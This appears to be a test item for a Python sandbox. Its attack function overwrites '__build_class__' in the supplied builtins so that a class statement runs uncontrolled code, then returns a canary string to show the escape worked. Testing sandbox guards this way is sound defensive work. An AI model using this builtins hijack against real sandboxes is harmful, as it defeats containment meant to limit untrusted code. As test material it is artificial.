"""Class: class machinery. Source: own find. Escape: a `class` statement calls what was put among
the builtins for it: a class that the guards would not call."""

seen = []


def instead(body, name, *bases, **options):
    seen.append((body, name, bases))


def attack(model, tokenizer, address, given):
    names = given["__builtins__"]
    (names if not hasattr(names, "open") else vars(names))["__build_class__"] = instead

    class Made(int):
        pass

    if seen:
        return "canary-" + "5d1f"
